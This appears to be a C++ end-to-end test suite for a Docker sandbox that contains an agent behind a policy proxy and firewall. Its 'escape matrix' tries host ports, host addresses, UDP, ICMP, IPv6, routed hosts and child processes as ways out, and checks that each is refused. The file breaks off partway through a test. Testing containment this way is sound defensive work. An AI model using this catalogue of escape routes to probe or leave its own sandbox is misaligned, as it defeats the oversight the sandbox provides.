// The docker backend end to end: a private dockerd (support/docker_daemon.hpp), an agent image
// built from host binaries (scripts/build-agent-image.sh, with acp_vm_client added), and the
// real `acp contain` / `acp run --backend=docker`.
//
// The escape matrix runs every attempt twice: inside `acp contain` (the wall), and as the
// control in a container with the same image, user and hardening on a plain --internal network
// of the same daemon without ACP's firewall, where the attempt must succeed. The targets are
// the host's own ports on the network's gateway, the host's other addresses, a test host in a
// network namespace (routed through the host), UDP, ICMP, IPv6, children and a daemonized
// leftover. Inside, the gateway is taken from HTTP_PROXY, so the same command line runs in
// both places. Refusals look like this: TCP is answered with a reset (ECONNREFUSED), UDP and
// ICMP are dropped by the host (the sender cannot tell; the receiver counts nothing).
//
// Skips (saying why) only when dockerd cannot start here.
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <memory>
#include <nlohmann/json.hpp>
#include <optional>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "support/docker_daemon.hpp"
#include "support/run_fixture.hpp"
#include "support/wall_fixture.hpp"

namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;
using acp::vmtest::DockerDaemon;
using acp::vmtest::Proc;
using acp::vmtest::run;
using acp::vmtest::slurp;

constexpr const char* kImage = "acp-agent:vmtest";
// The gateway, from the proxy variable acp sets (the control sets it the same way).
constexpr const char* kGw = "GW=${HTTP_PROXY#http://}; GW=${GW%:*}; ";

std::string value_of(const std::string& out, const std::string& key) {
  std::string v;
  size_t p = 0;
  const std::string k = key + "=";
  while ((p = out.find(k, p)) != std::string::npos) {
    if (p == 0 || out[p - 1] == '\n') {
      auto e = out.find('\n', p);
      v = out.substr(p + k.size(), e == std::string::npos ? std::string::npos : e - p - k.size());
    }
    p += k.size();
  }
  return v;
}

// The host's IPv4 address on the interface of its default route ("" when there is none).
std::string host_primary_ipv4() {
  auto r = run({"ip", "-4", "-o", "route", "get", "192.0.2.123"});
  auto p = r.out.find(" src ");
  if (r.status != 0 || p == std::string::npos) return "";
  std::string s = r.out.substr(p + 5);
  return s.substr(0, s.find(' '));
}

// A UDP socket on the host that counts what arrives.
struct UdpCounter {
  acp::UniqueFd fd;
  uint16_t port = 0;
  int count() {
    int n = 0;
    char buf[256];
    while (::recv(fd.get(), buf, sizeof buf, MSG_DONTWAIT) >= 0) ++n;
    return n;
  }
};

class DockerContain : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (::geteuid() != 0) {
      skip_reason_ = new std::string("needs root: acp contain installs firewall rules");
      return;
    }
    auto d = DockerDaemon::start();
    if (!d) {
      skip_reason_ = new std::string("dockerd cannot start here: " + d.error().message());
      return;
    }
    daemon_ = d->release();
    if (auto st = daemon_->build_image(kImage, {ACP_VM_CLIENT, "/usr/bin/getent"}); !st) {
      skip_reason_ = new std::string("the agent image did not build: " + st.error().message());
      return;
    }
    if (const char* h = std::getenv("DOCKER_HOST")) old_host_ = new std::string(h);
    ::setenv("DOCKER_HOST", daemon_->host().c_str(), 1);
  }
  static void TearDownTestSuite() {
    delete daemon_;
    daemon_ = nullptr;
    if (old_host_)
      ::setenv("DOCKER_HOST", old_host_->c_str(), 1);
    else
      ::unsetenv("DOCKER_HOST");
    delete old_host_;
    old_host_ = nullptr;
    delete skip_reason_;
    skip_reason_ = nullptr;
  }

  void SetUp() override {
    if (skip_reason_) {
      // Without a daemon this machine cannot run the backend; with one, a failure is a bug.
      if (!daemon_) GTEST_SKIP() << *skip_reason_;
      FAIL() << *skip_reason_;
    }
    char tmpl[] = "/tmp/acp-vmt-contain.XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    dir_ = tmpl;
    ::chmod(dir_.c_str(), 0755);
    std::ofstream(config()) << "channels:\n  web:\n    enabled: false\n";
    fs::create_directories(dir_ + "/www");
    std::ofstream(dir_ + "/www/index.html") << "origin says hello\n";
    fs::create_directories(dir_ + "/ws");
    std::ofstream(dir_ + "/ws/note.txt") << "workspace file\n";
  }

  void TearDown() override {
    for (Proc* p : {&origin_, &resolver_ns_, &resolver_lo_})
      if (p->pid > 0) {
        ::kill(p->pid, SIGTERM);
        p->finish();
      }
    if (!ctl_net_.empty()) daemon_->docker({"network", "rm", ctl_net_});
    ctl_net_.clear();
    if (!dir_.empty()) {
      if (run({ACP_BINARY, "status", "--json"}).out.find("\"docker\"") != std::string::npos)
        run({ACP_BINARY, "gc", "--kill"});
      fs::remove_all(dir_);
    }
  }

  std::string config() const { return dir_ + "/config.yml"; }
  std::string audit() const { return dir_ + "/audit.jsonl"; }
  std::string policy(const std::string& yaml) {
    std::string p = dir_ + "/policy.yml";
    std::ofstream(p) << yaml;
    return p;
  }

  std::vector<std::string> contain(const std::vector<std::string>& cmd,
                                   std::vector<std::string> extra = {}) {
    std::vector<std::string> a = {ACP_BINARY, "contain", "--image=" + std::string(kImage),
                                  "--config=" + config(), "--audit-log=" + audit()};
    if (!policy_path_.empty()) a.push_back("--policy=" + policy_path_);
    // The wall's own tests see a refused connection refused: no door, unless a test asks.
    if (std::none_of(extra.begin(), extra.end(),
                     [](const std::string& e) { return e.rfind("--door", 0) == 0; }))
      a.push_back("--door=proxy");
    a.insert(a.end(), extra.begin(), extra.end());
    a.push_back("--");
    a.insert(a.end(), cmd.begin(), cmd.end());
    return a;
  }
  // `sh -c SCRIPT` inside the wall, with GW set.
  Proc in_wall(const std::string& script, std::vector<std::string> extra = {"--no-workspace"}) {
    return run(contain({"/bin/sh", "-c", std::string(kGw) + script}, extra));
  }
  // The same script in the control container: same image, user, hardening; a plain internal
  // network without ACP's firewall; HTTP_PROXY names its gateway.
  Proc in_control(const std::string& script, bool ipv6 = false) {
    ensure_control_network(ipv6);
    return run({"/usr/bin/docker", "-H", daemon_->host(), "run", "--rm", "--network=" + ctl_net_,
                "--read-only", "--cap-drop=ALL", "--security-opt=no-new-privileges", "--tmpfs=/tmp",
                "--tmpfs=/home", "--pids-limit=256", "--memory=2g",
                "--env=HTTP_PROXY=http://" + ctl_gw_ + ":1", kImage, "/bin/sh", "-c",
                std::string(kGw) + script});
  }
  void ensure_control_network(bool ipv6) {
    if (!ctl_net_.empty() && ctl_v6_ == ipv6) return;
    if (!ctl_net_.empty()) daemon_->docker({"network", "rm", ctl_net_});
    const std::string n = std::to_string(::getpid() % 250 + 1);
    ctl_net_ = "acpvmt-ctl-" + std::to_string(::getpid());
    ctl_gw_ = "10.232." + n + ".1";
    ctl_v6_ = ipv6;
    std::vector<std::string> args = {"network", "create", "--internal",
                                     "--subnet=10.232." + n + ".0/28", "--gateway=" + ctl_gw_};
    if (ipv6) args.insert(args.end(), {"--ipv6", "--subnet=fd00:acb:f" + n + "::/64"});
    args.push_back(ctl_net_);
    auto r = daemon_->docker(args);
    ASSERT_EQ(r.status, 0) << r.out;
  }

  // A TCP server on the host answering on 0.0.0.0:port (every host address).
  uint16_t serve_tcp_any() {
    auto s = acp::vmtest::bind_socket(SOCK_STREAM, "0.0.0.0");
    EXPECT_TRUE(s.ok());
    uint16_t p = s->port;
    responder_.serve(std::move(*s));
    return p;
  }
  UdpCounter udp_any(const std::string& addr = "0.0.0.0") {
    auto s = acp::vmtest::bind_socket(SOCK_DGRAM, addr);
    EXPECT_TRUE(s.ok());
    return UdpCounter{std::move(s->fd), s->port};
  }

  void start_origin(uint16_t port) {
    origin_ = Proc::start({"python3", "-m", "http.server", "--bind", "127.0.0.1",
                           std::to_string(port), "--directory", dir_ + "/www"},
                          dir_ + "/origin.out");
    for (int i = 0; i < 100 && !acp::vmtest::port_answers(port); ++i)
      std::this_thread::sleep_for(50ms);
    ASSERT_TRUE(acp::vmtest::port_answers(port));
  }

  // Nothing of any session is left: containers, networks, firewall chains, records.
  void expect_nothing_left() {
    auto c = daemon_->docker({"ps", "-aq", "--filter=label=acp.session"});
    EXPECT_EQ(c.out, "") << "containers left";
    auto n = daemon_->docker({"network", "ls", "-q", "--filter=label=acp.session"});
    EXPECT_EQ(n.out, "") << "networks left";
    for (const char* t : {"iptables", "ip6tables"})
      for (const char* table : {"filter", "nat"}) {
        auto r = run({t, "-w", "-t", table, "-S"});
        EXPECT_EQ(r.out.find("ACPD-"), std::string::npos) << t << " " << table << ":\n" << r.out;
      }
  }

  static DockerDaemon* daemon_;
  static std::string* skip_reason_;
  static std::string* old_host_;
  std::string dir_;
  std::string policy_path_;
  std::string ctl_net_, ctl_gw_;
  bool ctl_v6_ = false;
  acp::vmtest::Responder responder_;
  Proc origin_, resolver_ns_, resolver_lo_;
};

DockerDaemon* DockerContain::daemon_ = nullptr;
std::string* DockerContain::skip_reason_ = nullptr;
std::string* DockerContain::old_host_ = nullptr;

// Where scripts/build-agent-image.sh put the client in the image: its host path, unless acp
// contain mounts over it (a checkout under /tmp or /home), then /usr/local/bin/<name>.
std::string client(const std::string& args) {
  const std::string host = ACP_VM_CLIENT;
  for (const char* hidden : {"/tmp/", "/home/", "/workspace/", "/proc/", "/sys/", "/dev/"})
    if (host.rfind(hidden, 0) == 0)
      return "/usr/local/bin/" + host.substr(host.rfind('/') + 1) + " " + args;
  return host + " " + args;
}

// ---- The session itself ----

TEST_F(DockerContain, HardenedContainerWithTheProxyVariablesAndTheContainersExitStatus) {
  ::setenv("ACP_VMT_PASSED", "passed-through", 1);
  auto r = run(contain(
      {"/bin/sh", "-c",
       "echo HTTP_PROXY=$HTTP_PROXY; echo https_proxy=$https_proxy; echo NO_PROXY=[$NO_PROXY]; "
       "echo CONTAINED=$ACP_CONTAINED; echo SANDBOX=$ACP_SANDBOX; echo PASSED=$ACP_VMT_PASSED; "
       "echo NOTPASSED=[$ACP_VMT_OTHER]; "
       "echo UID=$(id -u); grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status | tr -d '\\t' "
       "| sed 's/:/=/'; touch /rootfs-write 2>/dev/null && echo ROOTFS=rw || echo ROOTFS=ro; "
       "touch /tmp/x && echo TMP=rw; touch /home/x && echo HOME=rw || echo HOME=ro; "
       "cat /workspace/note.txt; touch /workspace/new 2>/dev/null && echo WS=rw || echo WS=ro; "
       "echo PIDS=$(cat /sys/fs/cgroup/pids/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids.max); "
       "echo MEM=$(cat /sys/fs/cgroup/memory/memory.limit_in_bytes 2>/dev/null || cat "
       "/sys/fs/cgroup/memory.max); "
       "test -e /var/run/docker.sock && echo DOCKERSOCK=yes || echo DOCKERSOCK=no; exit 7"},
      {"--workspace=" + dir_ + "/ws", "--env=ACP_VMT_PASSED"}));
  ::unsetenv("ACP_VMT_PASSED");
  EXPECT_EQ(r.status, 7) << r.out;
  const std::string px = value_of(r.out, "HTTP_PROXY");
  EXPECT_EQ(px.rfind("http://10.231.", 0), 0u) << r.out;
  EXPECT_EQ(value_of(r.out, "https_proxy"), px);
  EXPECT_EQ(value_of(r.out, "NO_PROXY"), "[]");
  EXPECT_EQ(value_of(r.out, "CONTAINED"), "1");
  EXPECT_EQ(value_of(r.out, "SANDBOX"), "1");
  EXPECT_EQ(value_of(r.out, "PASSED"), "passed-through");
  EXPECT_EQ(value_of(r.out, "NOTPASSED"), "[]");
  EXPECT_EQ(value_of(r.out, "UID"), "1000");
  EXPECT_EQ(value_of(r.out, "CapEff"), "0000000000000000");
  EXPECT_EQ(value_of(r.out, "CapBnd"), "0000000000000000");
  EXPECT_EQ(value_of(r.out, "NoNewPrivs"), "1");
  EXPECT_EQ(value_of(r.out, "ROOTFS"), "ro");
  EXPECT_EQ(value_of(r.out, "TMP"), "rw");
  EXPECT_EQ(value_of(r.out, "HOME"), "rw");
  EXPECT_NE(r.out.find("workspace file"), std::string::npos) << r.out;
  EXPECT_EQ(value_of(r.out, "WS"), "ro");
  EXPECT_EQ(value_of(r.out, "PIDS"), "256");
  EXPECT_EQ(value_of(r.out, "MEM"), "2147483648");
  EXPECT_EQ(value_of(r.out, "DOCKERSOCK"), "no");
  expect_nothing_left();
}

TEST_F(DockerContain, WritableWorkspaceAndUnknownImageAndBadEnv) {
  ::chmod((dir_ + "/ws").c_str(), 0777);
  auto w = run(contain({"/bin/sh", "-c", "echo made > /workspace/made.txt"},
                       {"--workspace=" + dir_ + "/ws", "--writable"}));
  EXPECT_EQ(w.status, 0) << w.out;
  EXPECT_EQ(slurp(dir_ + "/ws/made.txt"), "made\n");
  auto img = run(
      {ACP_BINARY, "contain", "--image=acp-no-such-image:1", "--config=" + config(), "--", "true"});
  EXPECT_EQ(img.status, 125) << img.out;
  EXPECT_NE(img.out.find("build-agent-image.sh"), std::string::npos) << img.out;
  auto env = run(contain({"true"}, {"--env=HTTP_PROXY"}));
  EXPECT_EQ(env.status, 125) << env.out;
  expect_nothing_left();
}

TEST_F(DockerContain, StatusShowsTheDockerModeLineWhileItRuns) {
  const std::string flag = dir_ + "/ws/running";
  ::chmod((dir_ + "/ws").c_str(), 0777);
  Proc p = Proc::start(contain({"/bin/sh", "-c", "touch /workspace/running; sleep 30"},
                               {"--workspace=" + dir_ + "/ws", "--writable"}));
  for (int i = 0; i < 200 && !fs::exists(flag); ++i) std::this_thread::sleep_for(50ms);
  ASSERT_TRUE(fs::exists(flag)) << "the container did not start";
  auto st = run({ACP_BINARY, "status"});
  EXPECT_NE(st.out.find("Network: 🔒 Isolated (Docker)"), std::string::npos) << st.out;
  EXPECT_NE(st.out.find("container:  acp-"), std::string::npos) << st.out;
  EXPECT_NE(st.out.find("ACPD-"), std::string::npos) << st.out;
  EXPECT_NE(st.out.find("dns:        the container's, answered on the gateway: "),
            std::string::npos)
      << st.out;
  auto js = run({ACP_BINARY, "status", "--json"});
  auto j = nlohmann::json::parse(js.out, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << js.out;
  bool found = false;
  for (const auto& s : j["sessions"])
    if (s.value("backend", "") == "docker") {
      found = true;
      EXPECT_EQ(s.value("network", ""), "Network: 🔒 Isolated (Docker)");
      EXPECT_EQ(s.value("image", ""), kImage);
    }
  EXPECT_TRUE(found) << js.out;
  // SIGTERM: docker run passes it on; sleep as PID 1 ignores it, so a second one removes the
  // container. acp ends, and everything is gone.
  ::kill(p.pid, SIGTERM);
  std::this_thread::sleep_for(500ms);
  ::kill(p.pid, SIGTERM);
  p.finish();
  EXPECT_NE(p.status, 0) << p.out;
  expect_nothing_left();
  EXPECT_EQ(run({ACP_BINARY, "status", "--json"}).out.find("\"docker\""), std::string::npos);
}

TEST_F(DockerContain, KilledAcpLeavesTheContainerWalledUntilGcKill) {
  const std::string flag = dir_ + "/ws/running";
  ::chmod((dir_ + "/ws").c_str(), 0777);
  uint16_t host_port = serve_tcp_any();
  Proc p = Proc::start(contain(
      {"/bin/sh", "-c",
       std::string(kGw) + "touch /workspace/running; while true; do " +
           client("tcp $GW " + std::to_string(host_port)) + " > /workspace/last; sleep 0.2; done"},
      {"--workspace=" + dir_ + "/ws", "--writable"}));
  for (int i = 0; i < 200 && !fs::exists(flag); ++i) std::this_thread::sleep_for(50ms);
  ASSERT_TRUE(fs::exists(flag));
  ::kill(p.pid, SIGKILL);
  p.reap();
  // Still walled: the proxy is gone, the firewall is not.
  fs::remove(dir_ + "/ws/last");
  for (int i = 0; i < 100 && !fs::exists(dir_ + "/ws/last"); ++i) std::this_thread::sleep_for(50ms);
  std::this_thread::sleep_for(300ms);
  EXPECT_EQ(value_of(slurp(dir_ + "/ws/last"), "result"), "ECONNREFUSED");
  EXPECT_EQ(responder_.accepted(), 0u);
  auto gc = run({ACP_BINARY, "gc"});
  EXPECT_NE(gc.out.find("still running"), std::string::npos) << gc.out;
  auto kill = run({ACP_BINARY, "gc", "--kill"});
  EXPECT_EQ(kill.status, 0) << kill.out;
  EXPECT_NE(kill.out.find("removed session"), std::string::npos) << kill.out;
  expect_nothing_left();
}

TEST_F(DockerContain, RunBackendDockerIsTheSameSession) {
  ::setenv("ACP_AGENT_IMAGE", kImage, 1);
  auto r = run({ACP_BINARY, "run", "--backend=docker", "--config=" + config(),
                "--audit-log=" + audit(), "--", "/bin/sh", "-c",
                "echo CONTAINED=$ACP_CONTAINED; echo PROXY=$HTTPS_PROXY; exit 3"});
  ::unsetenv("ACP_AGENT_IMAGE");
  EXPECT_EQ(r.status, 3) << r.out;
  EXPECT_EQ(value_of(r.out, "CONTAINED"), "1") << r.out;
  EXPECT_EQ(value_of(r.out, "PROXY").rfind("http://10.231.", 0), 0u) << r.out;
  expect_nothing_left();
}

// ---- The proxy end to end ----

TEST_F(DockerContain, ProxiedRequestsFollowThePolicyAndDirectOnesAreRefused) {
  const uint16_t allowed = acp::vmtest::free_port();
  start_origin(allowed);
  policy_path_ = policy(
      "default: deny\nrules:\n  - match: { kind: http, host: \"127.0.0.1\", "
      "port: " +
      std::to_string(allowed) + " }\n    action: allow\n");
  const uint16_t direct = serve_tcp_any();
  const std::string script = "curl -sS --max-time 10 http://127.0.0.1:" + std::to_string(allowed) +
                             "/index.html; echo; "
                             "echo DENIED=$(curl -s --max-time 10 -o /dev/null -w '%{http_code}' "
                             "http://127.0.0.1:" +
                             std::to_string(acp::vmtest::free_port()) +
                             "/); "
                             "curl -sS --noproxy '*' --max-time 5 -o /dev/null http://$GW:" +
                             std::to_string(direct) +
                             // curl's message goes to the container's stderr, which docker may
                             // interleave mid-line with stdout: keep it out of the parsed output.
                             "/ 2>/dev/null; echo DIRECT=$?";
  auto r = in_wall(script);
  EXPECT_EQ(r.status, 0) << r.out;
  EXPECT_NE(r.out.find("origin says hello"), std::string::npos) << r.out;
  EXPECT_EQ(value_of(r.out, "DENIED"), "403") << r.out;
  EXPECT_EQ(value_of(r.out, "DIRECT"), "7") << r.out;  // couldn't connect
  EXPECT_EQ(responder_.accepted(), 0u);
  // The audit log has both decisions.
  const std::string log = slurp(audit());
  EXPECT_NE(log.find("\"allow\""), std::string::npos) << log;
  EXPECT_NE(log.find("\"deny\""), std::string::npos) << log;
  EXPECT_EQ(run({ACP_BINARY, "audit", "verify", audit()}).status, 0);
  // Control: the direct request works without ACP's wall.
  auto c = in_control("curl -sS --max-time 5 -o /dev/null -w 'DIRECT=%{http_code}\\n' http://$GW:" +
                      std::to_string(direct) + "/");
  EXPECT_EQ(value_of(c.out, "DIRECT"), "200") << c.out;
}

// ---- The transparent door (issue 16) ----

// With --door=both (the default of acp contain), a client in the container that ignores
// HTTP(S)_PROXY (curl --noproxy '*') is led to the session's door on the gateway: the name it
// looked up (the session's DNS handed it a synthetic address) is judged and reached through
// the proxy, which resolves it itself (acp's private /etc/hosts: the container cannot); a
// literal address the policy does not allow gets ACP's 403; both audited as led in. TCP to
// any port of the host's gateway address is judged too (and refused); UDP stays dropped.
TEST_F(DockerContain, ClientsWithoutProxySettingsAreLedThroughTheDoorAndJudged) {
  auto ns = acp::vmtest::NetnsHost::create();
  ASSERT_TRUE(ns.ok()) << ns.error().message();
  auto origin = (*ns)->bind(SOCK_STREAM, (*ns)->addr4());
  ASSERT_TRUE(origin.ok()) << origin.error().message();
  const std::string port = std::to_string(origin->port);
  responder_.serve(std::move(*origin));
  auto u = (*ns)->bind(SOCK_DGRAM, (*ns)->addr4());
  ASSERT_TRUE(u.ok());
  UdpCounter udp{std::move(u->fd), u->port};
  const std::string hosts = dir_ + "/hosts";
  std::ofstream(hosts) << "127.0.0.1 localhost\n" << (*ns)->addr4() << " api.allowed.test\n";
  policy_path_ = policy(
      "default: deny\nrules:\n  - match: { kind: http, host: \"api.allowed.test\" }\n"
      "    action: allow\n");
  const std::string script =
      std::string(kGw) + "getent ahostsv4 api.allowed.test | head -n 1 | sed 's/^/LOOKUP=/'; " +
      "echo NAMED=$(curl -sS --noproxy '*' --max-time 20 http://api.allowed.test:" + port +
      "/ 2>/dev/null); "
      "echo ADDRESS=$(curl -s --noproxy '*' --max-time 20 -o /dev/null -w '%{http_code}' "
      "http://" +
      (*ns)->addr4() + ":" + port +
      "/); "
      "echo GATEWAY=$(curl -s --noproxy '*' --max-time 20 -o /dev/null -w '%{http_code}' "
      "http://$GW:" +
      std::to_string(serve_tcp_any()) + "/); " +
      client("udp-sendto " + (*ns)->addr4() + " " + std::to_string(udp.port));
  auto r = run(acp::vmtest::with_own_etc_files(
      hosts, contain({"/bin/sh", "-c", script}, {"--no-workspace", "--door=both"})));
  EXPECT_EQ(value_of(r.out, "LOOKUP").rfind("198.1", 0), 0u) << r.out;
  EXPECT_EQ(value_of(r.out, "NAMED"), "ok") << r.out;
  EXPECT_EQ(value_of(r.out, "ADDRESS"), "403") << r.out;
  EXPECT_EQ(value_of(r.out, "GATEWAY"), "403") << r.out;
  std::this_thread::sleep_for(200ms);
  EXPECT_EQ(udp.count(), 0) << "UDP other than DNS is not led anywhere";
  EXPECT_EQ(responder_.accepted(), 1u) << "the named request only (the gateway's server: none)";
  int allowed = 0, denied = 0;
  std::istringstream log(slurp(audit()));
  for (std::string line; std::getline(log, line);) {
    auto e = nlohmann::json::parse(line, nullptr, false);
    if (e.is_discarded() || e.value("kind", "") != "request") continue;
    if (e["action"].value("via", "") != "transparent") continue;
    if (e["action"].value("host", "") == "api.allowed.test" && e.value("verdict", "") == "allow")
      ++allowed;
    if (e["action"].value("host", "") == (*ns)->addr4() && e.value("verdict", "") == "deny")
      ++denied;
  }
  EXPECT_EQ(allowed, 1) << slurp(audit());
  EXPECT_EQ(denied, 1) << slurp(audit());
  EXPECT_EQ(run({ACP_BINARY, "audit", "verify", audit()}).status, 0);
  expect_nothing_left();
}

// The proxy and the door on the gateway serve the session's network only. A process on the
// host (any user: the gateway address is local) or a container on another docker network that
// connects to the door's port (found in the session's nat chain) or to the proxy's is refused
// before a byte is read and audited as a foreign client: never judged, audited or asked about
// as the session's, for a name it chose. (Before the check, both were judged as the session:
// conntrack has an entry for an un-NATed connection too.)
TEST_F(DockerContain, OnlyTheSessionsNetworkIsServedByItsProxyAndDoor) {
  policy_path_ = policy(
      "default: deny\nrules:\n  - match: { kind: http, host: \"outsider-chose-this.test\" }\n"
      "    action: allow\n");
  ::chmod((dir_ + "/ws").c_str(), 0777);
  const std::string hold = dir_ + "/ws/hold";
  std::ofstream(hold) << "";
  Proc p =
      Proc::start(contain({"/bin/sh", "-c",
                           "echo $HTTP_PROXY > /workspace/proxy; while [ -e /workspace/hold ]; "
                           "do sleep 0.1; done"},
                          {"--workspace=" + dir_ + "/ws", "--writable", "--door=both"}));
  for (int i = 0; i < 200 && slurp(dir_ + "/ws/proxy").empty(); ++i)
    std::this_thread::sleep_for(50ms);
  std::string proxy = slurp(dir_ + "/ws/proxy");
  ASSERT_EQ(proxy.rfind("http://", 0), 0u) << "the container did not start: " << proxy;
  proxy = proxy.substr(7, proxy.find_first_of("/\n", 7) - 7);  // gateway:port
  std::string door;
  std::istringstream nat(run({"iptables", "-w", "-t", "nat", "-S"}).out);
  for (std::string line; std::getline(nat, line);) {
    const std::string k = "-p tcp -j DNAT --to-destination ";
    if (auto at = line.find(k); line.find("ACPD-") != std::string::npos && at != std::string::npos)
      door = line.substr(at + k.size());
  }
  ASSERT_FALSE(door.empty()) << "no door in the session's nat chain";
  // A port below 1024 (and unprivileged ones start at 1024 here): a local user cannot take it
  // over while acp is gone, when the nat chain still leads the container's connections there.
  EXPECT_LT(std::stoi(door.substr(door.rfind(':') + 1)), 1024) << door;
  EXPECT_GE(std::stoi(slurp("/proc/sys/net/ipv4/ip_unprivileged_port_start")), 1024);
  const std::string get = "-H 'Host: outsider-chose-this.test' -x '' -s -m 8 -o /dev/null -w ";
  // From the host, as nobody; and from a container on another network.
  auto host = run({"runuser", "-u", "nobody", "--", "sh", "-c",
                   "curl " + get + "'DOOR=%{http_code}\\n' http://" + door + "/; curl " + get +
                       "'PROXY=%{http_code}\\n' http://" + proxy +
                       "/ ; curl -s -m 8 -o /dev/null -w 'CONNECT=%{http_code}\\n' -p -x http://" +
                       proxy + " http://outsider-chose-this.test/"});
  auto neighbour = in_control("curl " + get + "'DOOR=%{http_code}\\n' http://" + door + "/");
  fs::remove(hold);
  p.finish();
  for (const auto* out : {&host.out, &neighbour.out})
    for (const char* k : {"DOOR", "PROXY", "CONNECT"}) {
      const std::string v = value_of(*out, k);
      EXPECT_TRUE(v.empty() || v == "403" || v == "000") << k << "=" << v << "\n" << *out;
    }
  int judged = 0, refused = 0;
  std::istringstream log(slurp(audit()));
  for (std::string line; std::getline(log, line);) {
    auto e = nlohmann::json::parse(line, nullptr, false);
    if (e.is_discarded()) continue;
    if (e.value("kind", "") == "request" &&
        e["action"].value("host", "") == "outsider-chose-this.test")
      ++judged;
    if (e.value("kind", "") == "client" && e.value("allowed", true) == false) ++refused;
  }
  EXPECT_EQ(judged, 0) << slurp(audit());
  EXPECT_GE(refused, 4) << slurp(audit());
  expect_nothing_left();
}

// ---- The escape matrix ----

TEST_F(DockerContain, TheHostsOtherPortsOnTheGatewayAreRefused) {
  const std::string port = std::to_string(serve_tcp_any());
  auto w = in_wall(client("tcp $GW " + port));
  EXPECT_EQ(value_of(w.out, "result"), "ECONNREFUSED") << w.out;
  auto c = in_control(client("tcp $GW " + port));
  EXPECT_EQ(value_of(c.out, "result"), "OK") << c.out;
  // Also the proxy's own port on another of the host's addresses, and TCP Fast Open.
  auto f = in_wall(client("tcp-fastopen $GW " + port));
  EXPECT_NE(value_of(f.out, "result"), "OK") << f.out;
  EXPECT_EQ(responder_.accepted(), 1u) << "only the control got through";
}

TEST_F(DockerContain, TheHostsOwnAddressesAreRefused) {
  const std::string host_ip = host_primary_ipv4();
  if (host_ip.empty()) GTEST_SKIP() << "this host has no default route";
  const std::string port = std::to_string(serve_tcp_any());
  for (const std::string& addr : {host_ip, std::string("127.0.0.1")}) {
    auto w = in_wall(client("tcp " + addr + " " + port));
    EXPECT_NE(value_of(w.out, "result"), "OK") << addr << ": " << w.out;
  }
  auto c = in_control(client("tcp " + host_ip + " " + port));
  EXPECT_EQ(value_of(c.out, "result"), "OK") << c.out;
  EXPECT_EQ(responder_.accepted(), 1u);
}

TEST_F(DockerContain, UdpAndIcmpToTheHostAreDropped) {
  auto udp = udp_any();
  const std::string port = std::to_string(udp.port);
  for (const char* op : {"udp-sendto", "udp-connect", "udp-sendmsg", "udp-sendmmsg"})
    in_wall(client(std::string(op) + " $GW " + port));
  std::this_thread::sleep_for(200ms);
  EXPECT_EQ(udp.count(), 0) << "a datagram from the wall reached the host";
  auto c = in_control(client("udp-sendto $GW " + port));
  EXPECT_EQ(value_of(c.out, "result"), "OK") << c.out;
  std::this_thread::sleep_for(200ms);
  EXPECT_GE(udp.count(), 1) << "the control's datagram did not arrive";
  // ICMP echo (the unprivileged ping socket docker allows): no reply from the host.
  auto pw = in_wall(client("ping $GW 0"));
  EXPECT_NE(value_of(pw.out, "reply"), "OK") << pw.out;
  auto pc = in_control(client("ping $GW 0"));
  EXPECT_EQ(value_of(pc.out, "reply"), "OK") << pc.out;
}

TEST_F(DockerContain, ATestHostBehindTheHostIsNotRoutedTo) {
  auto ns = acp::vmtest::NetnsHost::create();
  ASSERT_TRUE(ns.ok()) << ns.error().message();
  // The test host answers the containers' subnets through the host.
  ASSERT_TRUE(acp::vmtest::sh("ip netns exec acpt-" + std::to_string(::getpid()) +
                              " ip route add default via " + (*ns)->host_addr4()));
  auto s = (*ns)->bind(SOCK_STREAM, (*ns)->addr4());
  ASSERT_TRUE(s.ok()) << s.error().message();
  const std::string port = std::to_string(s->port);
  responder_.serve(std::move(*s));
  auto u = (*ns)->bind(SOCK_DGRAM, (*ns)->addr4());
  ASSERT_TRUE(u.ok());
  UdpCounter udp{std::move(u->fd), u->port};
  auto w = in_wall(client("tcp " + (*ns)->addr4() + " " + port));
  EXPECT_NE(value_of(w.out, "result"), "OK") << w.out;
  in_wall(client("udp-sendto " + (*ns)->addr4() + " " + std::to_string(udp.port)));
  std::this_thread::sleep_for(200ms);
  EXPECT_EQ(udp.count(), 0);
  EXPECT_EQ(responder_.accepted(), 0u);
  auto c = in_control(client("tcp " + (*ns)->addr4() + " " + port));
  EXPECT_EQ(value_of(c.out, "result"), "OK") << c.out;
  in_control(client("udp-sendto " + (*ns)->addr4() + " " + std::to_string(udp.port)));
  std::this_thread::sleep_for(200ms);
  EXPECT_GE(udp.count(), 1);
}

TEST_F(DockerContain, IPv6IsNotAWayOut) {
  // The host's IPv6 address towards the test host (fd00:acb:N::1), listening on [::].
  auto ns = acp::vmtest::NetnsHost::create();
  ASSERT_TRUE(ns.ok()) << ns.error().message();
  auto s = acp::vmtest::bind_socket(SOCK_STREAM, "::");
  ASSERT_TRUE(s.ok());
  const std::string port = std::to_string(s->port);
  responder_.serve(std::move(*s));
  const std::string target = (*ns)->host_addr6();
  auto w = in_wall(client("tcp " + target + " " + port) + "; " + client("tcp ::1 " + port) +
                   " | sed s/result/loop/");
  EXPECT_NE(value_of(w.out, "result"), "OK") << w.out;
  EXPECT_NE(value_of(w.out, "loop"), "OK") << w.out;
  // Control: on an IPv6-enabled network without ACP's firewall the host answers.
  auto c = in_control(client("tcp " + target + " " + port), /*ipv6=*/true);
  EXPECT_EQ(value_of(c.out, "result"), "OK") << c.out;
  EXPECT_EQ(responder_.accepted(), 1u);
}

TEST_F(DockerContain, ChildrenAndDaemonsAreWalledAndDieWithTheSession) {
  const std::string port = std::to_string(serve_tcp_any());
  auto w = in_wall(client("--fork=2 tcp $GW " + port));
  EXPECT_EQ(value_of(w.out, "result"), "ECONNREFUSED") << w.out;
  auto c = in_control(client("--fork=2 tcp $GW " + port));
  EXPECT_EQ(value_of(c.out, "result"), "OK") << c.out;
  EXPECT_EQ(responder_.accepted(), 1u);
